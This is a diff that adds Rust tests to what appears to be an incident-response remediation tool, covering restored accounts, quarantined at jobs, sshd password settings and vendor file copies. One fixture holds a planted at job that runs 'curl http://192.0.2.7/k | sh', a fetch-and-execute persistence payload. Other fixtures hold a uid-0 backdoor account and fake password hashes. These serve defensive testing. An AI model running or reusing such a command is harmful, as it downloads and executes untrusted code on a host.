@@ -36,6 +36,10 @@ fn plan_given(
         playbooks,
         inputs,
         material,
+        open_source: &|name| match name {
+            "good" => Ok(Box::new(FakeRoot::new().file("/usr/bin/ls", b"the vendor's"))),
+            _ => Err("it is not there".to_owned()),
+        },
         source,
         host,
         target: "/".to_owned(),
@@ -140,6 +144,89 @@ fn an_altered_account_comes_back_from_the_copy_without_its_password() {
 }
 
 #[test]
+fn an_account_comes_back_in_all_four_files_and_nobody_else_with_it() {
+    let host = FakeRoot::new()
+        .file("/etc/passwd", b"root:x:0:0::/root:/bin/sh\nwww:x:0:0::/:/bin/sh\nnew:x:9:9::/:/bin/sh\n")
+        .file("/etc/passwd-", b"root:x:0:0::/root:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\n")
+        .file("/etc/shadow", b"root:$6$a$b:1::::::\nwww:$6$secret$x:2::::::\nnew:$6$c$d:1::::::\n")
+        .file("/etc/shadow-", b"root:$6$old$b:1::::::\nwww:*:1::::::\n")
+        .file("/etc/group", b"sudo:x:27:adam,www,new\nwww:x:33:\n")
+        .file("/etc/group-", b"sudo:x:27:adam\nwww:x:33:\n")
+        .file("/etc/gshadow", b"sudo:*::adam,www,new\n")
+        .file("/etc/gshadow-", b"sudo:*::adam\n");
+    let found = [finding(
+        "TR-TEST-0003",
+        Category::Account,
+        Subject::Account { path: path("/etc/passwd"), name: RawText::from("www") },
+    )];
+    let restored = plan(&host, &found, &[playbook("restore_account", "account", "")], None);
+    assert!(restored.steps.iter().all(|step| step.status == StepStatus::WouldChange), "{restored:#?}");
+    let files: Vec<String> = restored.steps.iter().map(|step| step.action.path().to_string()).collect();
+    assert_eq!(files, ["/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow"]);
+    assert!(restored.steps[0].preview.contains("+sudo:x:27:adam,new"), "{}", restored.steps[0].preview);
+    assert!(restored.steps[3].preview.contains("+www:*:1::::::"), "{}", restored.steps[3].preview);
+    assert!(!restored.to_json().contains("$6$"), "{}", restored.to_json());
+}
+
+#[test]
+fn a_job_of_at_goes_as_the_file_that_it_is_and_no_other_job_in_its_place() {
+    let job = b"#!/bin/sh\n# atrun uid=0 gid=0\ncd / || {\n exit 1\n}\ncurl http://192.0.2.7/k | \\\nsh\n/tmp/.k\n";
+    let at = "/var/spool/cron/atjobs/a0000101c16a4b";
+    let host = FakeRoot::new().file(at, job);
+    let cron = |text: &str| {
+        let subject = Subject::CronEntry { path: path(at), line: 6, text: RawText::from(text) };
+        [finding("TR-TEST-0004", Category::Persistence, subject)]
+    };
+    for text in ["/tmp/.k", "curl http://192.0.2.7/k | sh"] {
+        let removed = plan(&host, &cron(text), &[playbook("remove_cron_entry", "cron_entry", "")], None);
+        assert_eq!(what(&removed), [("quarantine_file", at.to_owned())], "{text}");
+        assert_eq!(removed.steps[0].status, StepStatus::WouldChange, "{text}");
+    }
+    let other = plan(&host, &cron("/tmp/.other"), &[playbook("remove_cron_entry", "cron_entry", "")], None);
+    assert!(matches!(&other.steps[0].status, StepStatus::Blocked { why } if why.contains("scan again")));
+    let line = plan(&host, &[line(at, "/tmp/.k")], &[playbook("remove_lines", "line", "")], None);
+    assert_eq!(what(&line), [("quarantine_file", at.to_owned())]);
+}
+
+#[test]
+fn passwords_are_not_switched_off_while_nobody_has_a_key() {
+    let host = FakeRoot::new()
+        .file("/etc/passwd", b"root:x:0:0::/root:/bin/sh\nadam:x:1:1::/home/adam:/bin/sh\neve:x:2:2::/:/bin/sh\n")
+        .file("/etc/shadow", b"root:!:1::::::\nadam:$6$x$y:1::::::\neve:$6$x$z:1::::::\n")
+        .file("/etc/ssh/sshd_config", b"UsePAM no\n");
+    let option = playbook("set_option", "account", "option: PasswordAuthentication, value: 'no'");
+    let off = plan(&host, &[account("eve")], &[option], None);
+    assert!(matches!(&off.steps[0].status, StepStatus::Blocked { why } if why.contains("log in")), "{off:#?}");
+    // One alone is no harm; both together are.
+    let keys = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExam x\n";
+    let host = host.file("/home/adam/.ssh/authorized_keys", keys.as_bytes());
+    let found = [account("eve"), line("/home/adam/.ssh/authorized_keys", keys.trim())];
+    let both = [
+        playbook("set_option", "account", "option: PasswordAuthentication, value: 'no'"),
+        playbook("remove_key", "line", ""),
+    ];
+    let combined = plan(&host, &found, &both, None);
+    assert_eq!(combined.steps[0].status, StepStatus::WouldChange, "{combined:#?}");
+    assert!(matches!(&combined.steps[1].status, StepStatus::Blocked { .. }), "{combined:#?}");
+    let key = plan(&host, &found, &both[1..], None);
+    assert_eq!(key.steps[0].status, StepStatus::WouldChange, "the password is left");
+}
+
+#[test]
+fn what_a_match_block_decides_cannot_be_known() {
+    let host = FakeRoot::new()
+        .file("/etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
+        .file("/etc/shadow", b"root:$6$x$y:1::::::\n")
+        .file(
+            "/etc/ssh/sshd_config",
+            b"PermitRootLogin yes\nMatch Address 192.0.2.0/24\n PasswordAuthentication yes\n",
+        );
+    let option = playbook("set_option", "account", "option: PasswordAuthentication, value: 'no'");
+    let unsure = plan(&host, &[account("eve")], &[option], None);
+    assert!(matches!(&unsure.steps[0].status, StepStatus::CannotKnow { why } if why.contains("Match")), "{unsure:#?}");
+}
+
+#[test]
 fn a_step_waits_for_what_a_person_has_to_say() {
     let host = FakeRoot::new().file("/etc/passwd", b"eve:x:1:1::/:/bin/sh\n").file("/usr/bin/ls", b"altered");
     let playbooks = [playbook("set_shell", "account", "shell: \"${inputs.shell}\"")];
@@ -162,6 +249,21 @@ fn a_good_copy_is_known_by_its_digest_and_one_that_is_not_there_is_said_to_be_mi
     assert_eq!(to.sha256, Some(Digest::of(b"the vendor's")));
     assert_eq!(restored.steps[0].status, StepStatus::WouldChange);
     assert!(matches!(&restored.steps[1].status, StepStatus::Blocked { why } if why.contains("no copy")));
+}
+
+#[test]
+fn a_playbook_says_itself_where_good_copies_are() {
+    let host = FakeRoot::new().file("/usr/bin/ls", b"altered");
+    let found = [file("/usr/bin/ls")];
+    let restored = plan(&host, &found, &[playbook("restore_file", "file", "from: good")], None);
+    assert_eq!(restored.steps[0].status, StepStatus::WouldChange, "{restored:#?}");
+    let missing = plan(&host, &found, &[playbook("restore_file", "file", "from: bad")], None);
+    assert!(
+        matches!(&missing.steps[0].status, StepStatus::Blocked { why } if why.contains("not there")),
+        "{missing:#?}"
+    );
+    let open = plan(&host, &found, &[playbook("restore_file", "file", "from: '${inputs.shell}'")], None);
+    assert!(matches!(&open.steps[0].status, StepStatus::NeedsInput { .. }), "{open:#?}");
 }
 
 #[test]
